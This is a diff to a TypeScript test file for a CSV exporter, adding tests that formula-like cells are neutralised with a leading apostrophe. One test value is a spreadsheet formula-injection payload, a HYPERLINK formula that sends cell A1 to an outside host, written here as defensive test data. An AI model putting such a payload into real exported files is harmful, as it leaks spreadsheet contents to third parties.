@@ -56,6 +56,40 @@ describe('CSV export', () => {
 	});
 });
 
+describe('CSV export and spreadsheets', () => {
+	it('never hands a spreadsheet a formula: such cells start with an apostrophe', () => {
+		const data = structuredClone(loadStory());
+		const [a, b, c, d] = data.claims;
+		a!.text.fr = '=HYPERLINK("http://example.org/?leak="&A1,"Cliquez")';
+		a!.text.en = '=1+1\nsecond line';
+		b!.text.fr = '+33 1 23';
+		b!.text.en = '-2+3';
+		c!.text.fr = '@SUM(A1:A9)';
+		c!.text.en = '\t=1+1';
+		d!.text.fr = 'a = b, @ and + inside are fine';
+		const tampered = indexWithFacts(data);
+		const csv = toCSV(tampered, { incidents: [], claims: [a!, b!, c!, d!] });
+		const rows = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true }).data;
+		const row = (id: string) => rows.find((r) => r.id === id)!;
+		expect(row(a!.id).text_fr).toBe(`'${a!.text.fr}`);
+		expect(row(a!.id).text_en).toBe(`'${a!.text.en}`);
+		expect(row(b!.id).text_fr).toBe("'+33 1 23");
+		expect(row(b!.id).text_en).toBe("'-2+3");
+		expect(row(c!.id).text_fr).toBe("'@SUM(A1:A9)");
+		expect(row(c!.id).text_en).toBe("'\t=1+1");
+		expect(row(d!.id).text_fr).toBe(d!.text.fr);
+		for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
+	});
+
+	it('leaves numbers as numbers', () => {
+		const rows = Papa.parse<Record<string, string>>(toCSV(index, all), {
+			header: true,
+			skipEmptyLines: true
+		}).data;
+		for (const r of rows) expect(r.lon).toMatch(/^\d+(\.\d+)?$/);
+	});
+});
+
 // The shape Google and schema.org expect of a ClaimReview.
 const ClaimReviewShape = z.object({
 	'@context': z.literal('https://schema.org'),
